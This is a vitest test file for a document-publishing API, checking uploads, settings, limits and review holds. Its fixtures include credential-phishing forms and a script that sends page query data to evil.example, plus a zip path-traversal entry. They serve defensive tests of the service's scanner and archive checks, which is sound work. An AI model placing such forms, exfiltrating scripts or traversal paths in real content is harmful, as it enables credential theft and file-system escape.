import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publishedDocument } from '#shared/contract/document.ts';
import { minimalFile } from '../office-host/files/minimal-files.ts';
import { withMacros } from '../office-host/files/modify-files.ts';
import { grantAccessToken } from '../support/api/access-token.ts';
import { ApiCaller } from '../support/api/api-caller.ts';
import { makeDocx } from '../support/files/office.ts';
import { makePdf } from '../support/files/pdf.ts';
import { makeZip } from '../support/files/zip.ts';
import { conversionsEnded, countBlobs } from '../support/service/blob-count.ts';
import { type StartedService, startService } from '../support/service/service.ts';

const uploadLimit = 1024 * 1024;

let service: StartedService;
let caller: ApiCaller;
const as = (token: string | undefined) => new ApiCaller(service.baseUrl, token);

beforeAll(async () => {
  service = await startService({ env: { UPLOAD_LIMIT: String(uploadLimit) } });
  caller = as(service.owner.apiKey);
});

afterAll(() => service.stop());

async function countDocuments(): Promise<number> {
  const { count } = await service.db
    .selectFrom('documents')
    .select((e) => e.fn.countAll<number>().as('count'))
    .executeTakeFirstOrThrow();
  return count;
}

describe('POST /api/v1/documents with html', () => {
  /** @contract service/publish, document/status, publish/title-default */
  it('publishes a page and returns the whole document', async () => {
    const html = '<!doctype html><title>Notes on the engine</title><p>Hello';
    const { status, body } = await caller.send('POST', '/documents', { html });
    expect(status).toBe(201);
    const document = publishedDocument.parse(body);
    expect(document).toMatchObject({
      title: 'Notes on the engine',
      slug: expect.stringMatching(/^notes-on-the-engine-[0-9a-z]{10}$/),
      link: `${service.linkHost}/${document.slug}`,
      kind: 'html',
      status: 'Published',
      review_status: null,
      views: 0,
      settings_url: `${service.baseUrl}/documents/${document.uuid}/update/`,
      settings: {
        password: false,
        require_email: false,
        allowed_email_domains: '',
        expires_at: null,
        cta_label: '',
        cta_url: '',
      },
      warnings: [],
      message: 'Published.',
    });
    expect(document.created).toMatch(/\+00:00$/);
  });

  /** @contract service/settings, publish/settings */
  it('accepts every setting, and never returns the password', async () => {
    const answer = await caller.send('POST', '/documents', {
      html: '<p>x',
      title: 'With settings',
      password: 'secret word',
      require_email: true,
      allowed_email_domains: 'example.com, example.org',
      expires_on: '2035-03-31',
      cta_label: 'Book a call',
      cta_url: 'https://example.com/book',
    });
    expect(answer.status).toBe(201);
    expect(answer.body.settings).toEqual({
      password: true,
      require_email: true,
      allowed_email_domains: 'example.com, example.org',
      expires_at: '2035-03-31T23:59:59+00:00',
      cta_label: 'Book a call',
      cta_url: 'https://example.com/book',
    });
    expect(answer.body.message).toContain('31 March 2035 (UTC)');
    expect(JSON.stringify(answer.body)).not.toContain('secret word');
  });

  /** @contract publish/title */
  it('prefers the given title, and makes one up when there is none anywhere', async () => {
    const given = await caller.send('POST', '/documents', { html: '<title>Own</title>', title: ' Given\u0000 ' });
    expect(given.body.title).toBe('Given');
    const none = await caller.send('POST', '/documents', { html: '<p>x' });
    expect(none.body.title).toBe('Untitled');
  });

  it('omits the title of a password-protected document from its link', async () => {
    const { body } = await caller.send('POST', '/documents', {
      html: '<title>Merger with Contoso</title><p>',
      password: 'secret word',
    });
    expect(body.slug).toMatch(/^[0-9a-z]{10}$/);
  });

  /** @contract document/review-status, publish/scan */
  it('holds a page that asks for a password and sends it elsewhere', async () => {
    const html = '<form action="https://evil.example/"><input type="password"></form>';
    const { status, body } = await caller.send('POST', '/documents', { html });
    expect(status).toBe(201);
    expect(body.review_status).toBe('held');
    expect(body.message).toContain('held for review. The link works once it’s approved');
    expect(body.warnings).toContainEqual(expect.stringMatching(/sends it to evil\.example\. .* administrator/));
  });

  it('accepts a page with NUL in its title and its addresses', async () => {
    const html = '<title>One\0two</title><img src="a\0.png">';
    const { status, body } = await caller.send('POST', '/documents', { html });
    expect(status).toBe(201);
    expect(body).toMatchObject({ title: 'One two', warnings: [expect.stringContaining('a.png')] });
  });

  /** @contract publish/created */
  it('warns of what visitors will miss', async () => {
    const { body } = await caller.send('POST', '/documents', {
      html: '<link rel=stylesheet href=style.css>',
      expires_on: '2001-01-01',
      cta_label: 'Buy',
    });
    expect(body.warnings).toEqual([
      expect.stringContaining('style.css'),
      expect.stringContaining('expired on 1 Jan 2001'),
      expect.stringContaining('no URL, so it isn’t shown'),
    ]);
  });

  /** @contract publish/html, limit/html */
  it('accepts exactly 5 MB and not a byte more', async () => {
    const most = 'x'.repeat(5 * 1024 * 1024);
    expect((await caller.send('POST', '/documents', { html: most })).status).toBe(201);
    const { status, body } = await caller.send('POST', '/documents', { html: `${most}x` });
    expect(status).toBe(400);
    expect(body.error).toContain('larger than 5 MB');
  });

  /** @contract publish/cta-url, publish/bad-request, error/bad-request */
  it.each<[string, unknown, string]>([
    ['nothing', {}, 'Send one complete HTML document'],
    ['an empty page', { html: '' }, 'empty'],
    ['html that is not text', { html: 5 }, 'Send one complete HTML document'],
    ['a short password', { html: '<p>', password: 'abc' }, 'at least 4'],
    ['a date that does not exist', { html: '<p>', expires_on: '2027-02-30' }, 'an existing date'],
    ['a button that leads to http', { html: '<p>', cta_url: 'http://example.com' }, 'https://'],
    ['domains with an address', { html: '<p>', allowed_email_domains: 'a@b.example' }, 'domains'],
    ['a setting of another type', { html: '<p>', require_email: 'yes' }, 'require_email'],
    ['an extremely long title', { html: '<p>', title: 'x'.repeat(501) }, '500 characters'],
  ])('refuses %s with 400 and creates nothing', async (_, body, words) => {
    await conversionsEnded(service);
    const before = [await countDocuments(), await countBlobs(service.dir)];
    const answer = await caller.send('POST', '/documents', body);
    expect(answer.status).toBe(400);
    expect(answer.body.error).toContain(words);
    expect([await countDocuments(), await countBlobs(service.dir)]).toEqual(before);
  });

  /** @contract publish/bad-request */
  it.each([
    ['no JSON', '{"html":', 'application/json', 'not JSON'],
    ['another type of body', 'hello', 'text/plain', 'multipart/form-data'],
    ['a multipart body without a boundary', 'x', 'multipart/form-data', 'boundary'],
  ])('refuses %s with 400', async (_, body, type, words) => {
    const answer = await caller.sendText('POST', '/documents', body, type);
    expect(answer.status).toBe(400);
    expect(answer.body.error).toContain(words);
  });
});

describe('POST /api/v1/documents with a file', () => {
  /** @contract service/publish, publish/title-default, publish/multipart, publish/kinds */
  it('publishes a PDF under its file name, with the settings as text fields', async () => {
    const file = { name: 'Größe & Preis.pdf', bytes: await makePdf(3) };
    const { status, body } = await caller.upload('POST', '/documents', file, {
      require_email: 'true',
      password: 'abcd',
      cta_label: '',
      cta_url: '',
    });
    expect(status).toBe(201);
    expect(body).toMatchObject({ title: 'Größe & Preis', kind: 'pdf', status: 'Published' });
    expect(body.settings).toMatchObject({ require_email: true, password: true });
    const version = await service.db
      .selectFrom('versions')
      .select(['pages', 'source_kind', 'source_bytes', 'state'])
      .where('document_id', '=', body.uuid)
      .executeTakeFirstOrThrow();
    expect(version).toEqual({ pages: 3, source_kind: 'pdf', source_bytes: file.bytes.byteLength, state: 'ready' });
  });

  /** @contract document/kind-html, publish/kinds */
  it('publishes a page in its declared encoding', async () => {
    const bytes = Buffer.from('<meta charset="iso-8859-1"><title>Caf\xe9</title>', 'latin1');
    const { body } = await caller.upload('POST', '/documents', { name: 'page.htm', bytes });
    expect(body).toMatchObject({ title: 'Café', kind: 'html', status: 'Published' });
  });

  /** @contract service/publish, document/kind-html, publish/kinds */
  it('publishes a zipped site, without the folder around it, with the type of each file', async () => {
    const bytes = makeZip({
      'site/index.html': '<title>My site</title><link rel=stylesheet href=css/a.css><img src=gone.png>',
      'site/css/a.css': 'p {}',
      'site/.git/config': 'x',
      '__MACOSX/site/._index.html': 'x',
    });
    const { status, body } = await caller.upload('POST', '/documents', { name: 'site.zip', bytes });
    expect(status).toBe(201);
    expect(body).toMatchObject({ title: 'My site', kind: 'html', status: 'Published' });
    expect(body.warnings).toEqual([expect.stringContaining('gone.png'), expect.stringContaining('.git/config')]);
    const files = await service.db
      .selectFrom('site_files')
      .innerJoin('versions', 'versions.id', 'site_files.version_id')
      .select(['path', 'content_type'])
      .where('document_id', '=', body.uuid)
      .orderBy('path')
      .execute();
    expect(files).toEqual([
      { path: 'css/a.css', content_type: 'text/css; charset=utf-8' },
      { path: 'index.html', content_type: 'text/html; charset=utf-8' },
    ]);
  });

  /** @contract publish/scan */
  it.each([
    [
      'one page asks for a password and another runs scripts',
      {
        'a.html': '<form action=b.html><input type=password></form>',
        'b.html': '<script>fetch("https://evil.example" + location.search)</script>',
      },
    ],
    [
      'the page that asks is XML',
      {
        'a.xhtml': '<form xmlns="http://www.w3.org/1999/xhtml" action="//evil.example"><input type="password"/></form>',
      },
    ],
  ])('holds a site in which %s', async (_, files) => {
    const bytes = makeZip({ 'index.html': '<a href=a.html>Sign in</a>', ...files });
    const { body } = await caller.upload('POST', '/documents', { name: 'site.zip', bytes });
    expect(body.review_status).toBe('held');
  });

  /** @contract document/status, publish/conversion */
  it('answers at once for a Word file, which is converted in the background', async () => {
    const { status, body } = await caller.upload('POST', '/documents', { name: 'plan.docx', bytes: makeDocx('Hi') });
    expect(status).toBe(201);
    expect(body).toMatchObject({ title: 'plan', kind: 'word', status: 'Converting' });
    expect(body.message).toContain('being converted to PDF');
  });

  it.each([
    ['word', 'Plan.docm'],
    ['powerpoint', 'Plan.pptm'],
    ['excel', 'Plan.xlsm'],
  ] as const)('accepts a file of %s with macros', async (app, name) => {
    const bytes = withMacros(app, minimalFile(app, 'Plan'));
    const { status, body } = await caller.upload('POST', '/documents', { name, bytes });
    expect(status).toBe(201);
    expect(body).toMatchObject({ title: 'Plan', kind: app });
    const version = await service.db
      .selectFrom('versions')
      .innerJoin('documents', 'documents.id', 'versions.document_id')
      .select('source_name')
      .where('documents.slug', '=', publishedDocument.parse(body).slug)
      .executeTakeFirstOrThrow();
    expect(version.source_name).toBe(name);
  });

  /** @contract publish/refused-kind */
  it.each<[string, { name: string; bytes: Uint8Array | string }, string]>([
    [
      'another kind of file',
      { name: 'notes.txt', bytes: 'text' },
      'Send one of .pdf, .docx, .docm, .doc, .pptx, .pptm, .ppsx, .ppt, .xlsx, .xlsm, .xls, .html, .htm, .zip.',
    ],
    ['a page named as a PDF', { name: 'a.pdf', bytes: '<!doctype html>' }, 'is not one'],
    ['an empty file', { name: 'a.pdf', bytes: '' }, 'empty'],
    [
      'a site without its index.html',
      { name: 'a.zip', bytes: makeZip({ 'a/b/index.html': 'x', c: 'x' }) },
      'a/b/index.html',
    ],
    [
      'a zip with a path that leads out of it',
      { name: 'a.zip', bytes: makeZip({ 'index.html': 'x', '../../evil.html': 'x' }) },
      'leads out',
    ],
    [
      'a site with a path longer than any system creates',
      { name: 'a.zip', bytes: makeZip({ 'index.html': 'x', [`${'folder/'.repeat(200)}a.html`]: 'x' }) },
      'very long path',
    ],
    ['a file beyond the limit', { name: 'a.pdf', bytes: new Uint8Array(uploadLimit + 1) }, 'larger than 1 MB'],
  ])('refuses %s with 400, creates nothing and stores nothing', async (_, file, words) => {
    await conversionsEnded(service);
    const before = [await countDocuments(), await countBlobs(service.dir)];
    const { status, body } = await caller.upload('POST', '/documents', file);
    expect(status).toBe(400);
    expect(body.error).toContain(words);
    expect([await countDocuments(), await countBlobs(service.dir)]).toEqual(before);
  });

  it('accepts a file whose name has NUL in it', async () => {
    const part =
      "--b\r\nContent-Disposition: form-data; name=file; filename*=UTF-8''a%00b.html\r\n\r\n<p>x\r\n--b--\r\n";
    const answer = await caller.sendText('POST', '/documents', part, 'multipart/form-data; boundary=b');
    expect(answer).toMatchObject({ status: 201, body: { title: 'a b' } });
  });

  it('stores nothing of a file whose settings are refused', async () => {
    await conversionsEnded(service);
    const before = await countBlobs(service.dir);
    const file = { name: 'a.pdf', bytes: await makePdf() };
    const answer = await caller.upload('POST', '/documents', file, { require_email: 'perhaps' });
    expect(answer.status).toBe(400);
    expect(answer.body.error).toBe('require_email must be true or false.');
    expect(await countBlobs(service.dir)).toBe(before);
  });
});

describe('permission to publish', () => {
  it('is refused with 401 without a token', async () => {
    expect((await as(undefined).send('POST', '/documents', { html: '<p>x' })).status).toBe(401);
  });

  it('is refused with 403 to a read-only token', async () => {
    const token = await grantAccessToken(service.db, service.owner.userId, 'read');
    const { status, body } = await as(token).send('POST', '/documents', { html: '<p>x' });
    expect(status).toBe(403);
    expect(body).not.toHaveProperty('upgrade_url');
  });
});
